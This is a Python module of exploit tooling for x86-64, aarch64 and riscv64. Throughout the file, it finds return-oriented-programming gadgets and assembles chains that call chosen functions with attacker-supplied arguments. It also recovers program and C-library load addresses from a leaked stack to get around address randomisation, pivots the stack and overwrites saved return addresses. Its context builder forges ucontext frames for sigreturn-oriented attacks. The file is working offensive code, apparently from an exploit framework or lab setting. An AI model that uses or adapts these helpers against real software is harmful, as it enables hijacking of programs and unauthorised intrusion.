# SPDX-License-Identifier: ISC
"""What exploits that take over the flow of control know of instruction sets:
gadgets, frames and saved contexts.

A chain is a list of words from an overwritten return address on.  BASE is where the
program has been loaded, 0 if it is not moved.
"""

import struct

from common import word

X86_64, AARCH64, RISCV64 = 62, 183, 243
RETURN_X86_64 = b"\xc3"
POP_RDI = b"\x5f" + RETURN_X86_64
# ld ra,8(sp); mv a0,s0; ld s0,0(sp); addi sp,sp,16; ret
LOAD_S0_RISCV64 = bytes.fromhex("a260 2285 0264 4101 8280")
RETURN_AARCH64, MOVE_X0_X19, MOVE_SP_X29 = 0xd65f03c0, 0xaa1303e0, 0x910003bf
START = 0x200  # before __libc_start_main(), the function that calls main()
FLOATS_X86_64 = 424  # within a ucontext
PAGE = 0xfff
RT_SIGRETURN = {X86_64: 15, AARCH64: 139, RISCV64: 139}


def pass_argument(program, base, value, target):
    """A chain that ends in TARGET with VALUE as its first argument."""
    if program.machine == X86_64:
        return [base + program.find_code(POP_RDI), value, target]
    if program.machine == RISCV64:
        # Passed twice: the first time loads s0, the second one moves it.
        gadget = base + program.find_code(LOAD_S0_RISCV64)
        return [gadget, value, gadget, 0, target]
    gadget, frame, loads = find_return_aarch64(program, MOVE_X0_X19)
    first, second = [0] * frame, [0] * frame
    first[1], first[loads[19]] = base + gadget, value
    second[1] = target
    # Behind its move, the gadget loads x19 for the second pass.
    return [base + gadget + 4, *first, *second]


def call(program, value, function, caller, base=0, library=None):
    """A chain that calls FUNCTION with VALUE and goes on behind itself.  Where
    functions return by a register, it takes the call in CALLER, a function that
    saves nothing but this register.  LIBRARY is what the gadgets are from, and
    where that has been loaded."""
    gadgets, gadgets_base = library or (program, base)
    if program.machine == X86_64:
        aligned = [gadgets_base + gadgets.find_code(POP_RDI) + 1]
        return aligned + pass_argument(gadgets, gadgets_base, value,
                                       base + program[function])
    site = base + program.calls(caller, function)[0][0]
    return pass_argument(gadgets, gadgets_base, value, site) + [0]


def find_return(program, stack, buffer, handler):
    """(which word of STACK is the first return address into the program behind a
    BUFFER of so many bytes, where the program has been loaded).  serve() calls
    HANDLER, and that others.  An address of the stack can have the same offset in
    its page: the return address into main() has to confirm it."""
    known = [after for caller, callee in ((handler, None), ("serve", handler))
             for _, after in program.calls(caller, callee)]
    main = program.calls("main", "serve")[0][1]
    return next((at, stack[at] - after) for at in range(buffer // 8, len(stack))
                for after in known
                if stack[at] & PAGE == after & PAGE and
                stack[at] - after + main in stack[at:])


def find_libc(libc, stack):
    """Where the C library has been loaded, by the return address of main(); that
    of its caller has to confirm it."""
    name = "__libc_start_main"
    inner = [after for _, after, target in
             libc.calls_within(libc[name] - START, START) if target is None]
    outer = [after for _, after, target in
             libc.calls_within(libc[name], libc.sizes[name]) if target]
    return next(found - after for found in stack for after in inner
                if found & PAGE == after & PAGE and
                any(found - after + other in stack for other in outer))


def move_stack_aarch64(program, chain):
    """(address of code that moves the stack to where x29 points, what lies there to
    go on with CHAIN)"""
    gadget, frame, _ = find_return_aarch64(program, MOVE_SP_X29)
    words = [0, chain[0]] + [0] * (frame - 2) + chain[1:]
    return gadget, b"".join(map(word, words))


def find_return_aarch64(program, wanted):
    """(address, words of the frame, {register: its word in the frame}) of the
    instruction WANTED where only loads of saved registers, x19 among them, and
    the return come behind it."""
    start, code = program.code()
    insns = struct.unpack(f"<{len(code) // 4}I", code[:len(code) // 4 * 4])
    for at, insn in enumerate(insns):
        if insn != wanted:
            continue
        loads, end = {}, at + 1
        while loaded := load_from_stack_aarch64(insns[end]):
            loads.update(loaded)
            end += 1
        # ldp x29, x30, [sp], #frame
        if (insns[end] & 0xffc07fff == 0xa8c07bfd and 19 in loads and
                insns[end + 1] == RETURN_AARCH64):
            return start + 4 * at, insns[end] >> 15 & 0x7f, loads
    raise KeyError("no gadget")


def load_from_stack_aarch64(insn):
    """{register: word above sp} of a load of x19 to x28; empty if it is none."""
    loaded = {}
    if insn & 0xffc003e0 == 0xf94003e0:  # ldr
        loaded = {insn & 31: insn >> 10 & 0xfff}
    elif insn & 0xffe003e0 == 0xa94003e0:  # ldp
        offset = insn >> 15 & 0x3f
        loaded = {insn & 31: offset, insn >> 10 & 31: offset + 1}
    return loaded if all(19 <= n <= 28 for n in loaded) else {}


def overwrite(program, caller, chain):
    """What replaces a return address and all behind it.  On aarch64 the address
    in reach is CALLER's own, at the low end of a frame that is left first."""
    frame = []
    if program.machine == AARCH64:
        insn, = struct.unpack("<I", program.bytes_at(program[caller], 4))
        if insn & 0xffc07fff != 0xa9807bfd:  # stp x29, x30, [sp, #-frame]!
            raise KeyError(f"no frame: {caller}")
        frame = [0] * (128 - (insn >> 15 & 0x7f) - 2)
    return b"".join(map(word, [chain[0], *frame, *chain[1:]]))


def stack_top(program, base, returns):
    """What lies at the stack pointer of a function that shall return to RETURNS,
    with the alignment of a call."""
    if program.machine != X86_64:
        return b""
    return word(base + program.find_code(POP_RDI) + 1) + word(returns)


def context(machine, pc, sp, arguments, returns, address=0, pointers=(0, 0)):
    """A ucontext, the same for rt_sigreturn(2) and setcontext(3).  RETURNS is
    where a call at PC returns to, except on x86-64, where that lies at SP.
    ADDRESS is that of the context itself, which setcontext(3) needs on x86-64;
    POINTERS are gp and tp, which rt_sigreturn(2) needs on riscv64."""
    registers = dict.fromkeys(range(32), 0)
    if machine == X86_64:
        rdi, rsi, rdx = (*arguments, 0, 0)[:3]
        words = [0] * 13 + [rdi, rsi, 0, 0, rdx, 0, 0, sp, pc, 0x202,
                            0x2b << 48 | 0x33] + [0] * 4
        words += [address and address + FLOATS_X86_64] + [0] * 24
        words += [0x37f, 0xffff, 0, 0x1f80]  # as at the start of a program
    elif machine == AARCH64:
        registers.update(enumerate(arguments))
        registers.update({30: returns, 31: sp})
        words = [0] * 23 + list(registers.values()) + [pc, 0, 0]
        words += [528 << 32 | 0x46508001] + [0] * 65  # the record of vectors
    else:
        registers.update(enumerate(arguments, 10))
        registers.update({0: pc, 1: returns, 2: sp, 3: pointers[0],
                          4: pointers[1]})
        words = [0] * 22 + list(registers.values()) + [0] * 66
    return b"".join(map(word, words))
